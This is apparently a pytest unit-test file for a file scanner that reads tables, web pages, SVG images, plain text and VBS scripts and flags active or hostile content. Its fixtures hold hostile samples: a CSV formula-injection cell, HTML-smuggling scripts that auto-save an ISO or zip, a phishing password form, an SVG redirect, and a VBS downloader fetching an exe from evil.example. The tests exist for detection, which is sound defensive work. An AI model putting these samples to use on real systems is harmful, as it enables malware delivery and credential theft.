"""Tables in plain text, pages, XML and plain texts."""

from __future__ import annotations

import time

import pytest

from glassdome.files.page_words import SMUGGLING
from tests.unit.files.made import read_bytes, words_of

TABLES = {
    "semicolon": b"date;note;amount\n2025-01-03;Rent;950.00\n2025-01-05;Groceries;64,20\n",
    "comma": b'date,note,amount\n2025-01-03,"Rent, flat",950.00\n2025-01-05,Groceries,64.20\n',
    "tab": "date\tnote\tamount\n2025-01-03\tRent\t950.00\n2025-01-05\tGroceries\t64.20\n".encode("utf-16"),
    "said": b"sep=|\ndate|note|amount\n2025-01-03|Rent|950.00\n2025-01-05|Groceries|64.20\n",
}


@pytest.mark.parametrize("name", TABLES)
def test_cells_of_a_table(name: str) -> None:
    """The character between cells is guessed; each cell is a fact with its address."""
    found = read_bytes(TABLES[name], "export.csv", kind="text/csv")
    facts = {(fact.type, fact.value, fact.where) for fact in found.facts}

    assert ("number", "950.00", "cell C2") in facts
    assert ("cell", "Groceries", "cell B3") in facts
    assert "2025-01-05\tGroceries\t64" in words_of(found)


def test_letters_of_a_table_are_decoded() -> None:
    """A table in windows-1252 keeps its letters."""
    assert "Grüße\t1" in words_of(read_bytes("Wort;Zahl\nGrüße;1\n".encode("cp1252"), "a.csv"))


def test_a_cell_of_two_lines_is_one_cell() -> None:
    """The end of a line within quotes parts words, not cells."""
    assert "first second\t7" in words_of(read_bytes(b'note,amount\r\n"first\r\nsecond",7\r\n', "a.csv"))


def test_a_table_that_asks_a_program_is_active() -> None:
    """A cell of the form `=cmd|'/c calc'!A0` runs a program."""
    assert read_bytes(b"a,b\n=cmd|'/c calc'!A0,2\n", "a.csv").is_active
    assert not read_bytes(b"a,b\n-5,+3\n", "a.csv").is_active


def test_a_page_that_assembles_a_file_says_so() -> None:
    """A script that turns letters into a file, and has the browser save it, is told with the file's name."""
    page = (
        b"<html><body>Loading<script>var d=atob('TVqQAAMA');var b=new Blob([d]);var a=document.createElement('a');"
        b"a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click();</script></body></html>"
    )
    found = read_bytes(page, "invoice.html")

    assert found.is_active
    assert words_of(found, "script", seen=False) == f"{SMUGGLING}: invoice.iso"


def test_a_link_that_carries_a_file_says_so() -> None:
    """A link to data of its own that is to be saved needs no script."""
    page = b'<html><body><a download="a.zip" href="data:application/zip;base64,UEsDBA==">open</a></body></html>'

    assert words_of(read_bytes(page, "a.html"), "script", seen=False) == f"{SMUGGLING}: a.zip"


def test_an_ordinary_page_assembles_nothing() -> None:
    """Scripts that count visits, and pictures in the page, are no file."""
    page = b'<html><body>Hello<img src="data:image/png;base64,AAAA"><script>track(atob("eA=="))</script></body></html>'

    assert words_of(read_bytes(page, "a.html"), "script", seen=False) == ""


def test_a_form_that_asks_for_a_password_is_told() -> None:
    """A page with a password field says so, with the place it sends to."""
    page = b'<html><form action="https://evil.example/p">Mail <input type="password" name="p"></form></html>'
    found = read_bytes(page, "login.html")

    assert found.asks_password
    assert "https://evil.example/p" in [link.url for link in found.links]


def test_a_picture_with_script_is_active() -> None:
    """An SVG with script runs; its words and links are read."""
    picture = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example/"</script>'
        b'<a href="https://a.example/x"><text>Open invoice</text></a></svg>'
    )
    found = read_bytes(picture, "scan.svg")

    assert found.is_active
    assert "Open invoice" in words_of(found)
    assert [link.url for link in found.links] == ["https://a.example/x"]


def test_plain_text_has_its_links() -> None:
    """The words of a text and the addresses in them are read."""
    found = read_bytes(b"Sign in at https://evil.example/login now\n", "note.txt")

    assert [link.url for link in found.links] == ["https://evil.example/login"]


@pytest.mark.parametrize(
    "data", [b'"' * 400_000, b";" * 400_000, b"a,\n" * 200_000, b"<a download " * 40_000, b"<a " + b"x" * 900_000]
)
def test_hostile_texts_are_bounded(data: bytes) -> None:
    """Endless quotes, cells and tags end in time."""
    begin = time.perf_counter()
    read_bytes(data, "a.csv")
    read_bytes(b"<html>" + data, "a.html")

    assert time.perf_counter() - begin < 8


def test_a_script_is_active() -> None:
    """A text that Windows runs is active by its name; its words and links are read like those of a note."""
    found = read_bytes(b'CreateObject("MSXML2.XMLHTTP").Open "GET", "https://evil.example/a.exe"\n', "bill.vbs")

    assert found.is_active
    assert [link.url for link in found.links] == ["https://evil.example/a.exe"]
    assert not read_bytes(b"hello\n", "note.txt").is_active
